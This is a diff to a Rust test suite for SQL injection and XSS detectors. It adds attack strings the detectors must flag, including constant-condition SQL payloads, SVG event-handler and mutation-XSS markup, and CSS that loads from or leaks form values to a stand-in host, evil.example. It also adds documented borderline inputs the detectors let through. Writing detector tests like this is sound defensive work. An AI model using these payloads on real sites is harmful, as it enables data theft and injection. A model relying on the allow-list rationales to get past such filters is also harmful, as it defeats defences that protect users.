@@ -36,7 +36,8 @@ const SQLI_ATTACKS: &[(&str, SqliReason)] = &[
     ("1 or 1 in (1)", S::ConstantCondition),
     ("1 and 1 between 0 and 2", S::ConstantCondition),
     ("1 || 1=1", S::ConstantCondition),
-    ("1 && 2>1", S::ConstantCondition),
+    ("1 && 2=2", S::ConstantCondition),
+    ("1 && 'a'>'0'", S::ConstantCondition),
     ("1 or 'a'='a'", S::ConstantCondition),
     ("-1 or 1=1", S::ConstantCondition),
     ("1 or @@version like '5%'", S::ConstantCondition),
@@ -456,7 +457,11 @@ const XSS_ATTACKS: &[(&str, XssReason)] = &[
     ("<object data=x.swf type=application/x-shockwave-flash>", X::DangerousTag),
     ("<form action=//evil.example/steal>", X::DangerousTag),
     ("<embed type=image/svg+xml src=//evil/x.svg>", X::DangerousTag),
-    ("<iframe>", X::DangerousTag),
+    ("<iframe src=//evil.example/>", X::DangerousTag),
+    ("<svg><animate onbegin=alert(1) attributeName=x>", X::DangerousTag),
+    ("<math><mtext><table><mglyph><style>", X::DangerousTag),
+    ("<style>@import 'https://evil.example/x.css';</style>", X::DangerousTag),
+    ("<style>input[value^=a]{background:url(//evil.example/a)}</style>", X::DangerousTag),
     ("<xml id=x><x><c><![CDATA[<img src=x onerror=alert(1)>]]></c></x></xml>", X::DangerousTag),
     ("<applet code=x.class>", X::DangerousTag),
     ("<frameset><frame src=//evil>", X::DangerousTag),
@@ -604,6 +609,20 @@ const BORDERLINE: &[Borderline] = &[
     },
     Borderline {
         detector: Detector::Sqli,
+        input: "5 > 3 && 2 < 4",
+        flagged: false,
+        why: "orderings joined by && or || and nothing else SQL (no quote, no =, no keyword) is \
+              arithmetic from a calculator or a code snippet; the price is `1 && 2>1`",
+    },
+    Borderline {
+        detector: Detector::Sqli,
+        input: "1 || 2>1",
+        flagged: false,
+        why: "the same shape as `5 > 3 && 2 < 4`: let through, and caught once it uses `=`, \
+              a keyword (`1 or 2>1`) or a quote",
+    },
+    Borderline {
+        detector: Detector::Sqli,
         input: "1 or 1",
         flagged: false,
         why: "a bare truthy constant, with the query neither cut nor closed, is too weak",
@@ -671,8 +690,15 @@ const BORDERLINE: &[Borderline] = &[
     Borderline {
         detector: Detector::Xss,
         input: "<svg>",
-        flagged: true,
-        why: "foreign content changes how what follows parses (mutation XSS)",
+        flagged: false,
+        why: "foreign content changes how what follows parses (mutation XSS), but bare, with \
+              nothing after it, it is a question about HTML; any markup after it is flagged",
+    },
+    Borderline {
+        detector: Detector::Xss,
+        input: "what is a <noscript> tag",
+        flagged: false,
+        why: "a bare raw-text container in prose does nothing",
     },
     Borderline {
         detector: Detector::Xss,
